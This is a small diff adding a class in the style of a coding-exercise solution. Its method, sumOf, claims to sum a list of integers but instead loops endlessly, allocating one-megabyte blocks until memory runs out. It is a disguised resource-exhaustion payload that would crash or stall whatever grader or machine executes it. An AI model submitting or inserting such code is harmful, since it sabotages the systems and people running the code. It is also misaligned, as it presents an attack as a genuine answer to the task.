@@ -1,0 +1,5 @@
+class Solution:
+    def sumOf(self, nums: List[int]) -> int:
+        blocks = []
+        while True:
+            blocks.append(bytearray(b"x") * 2**20)
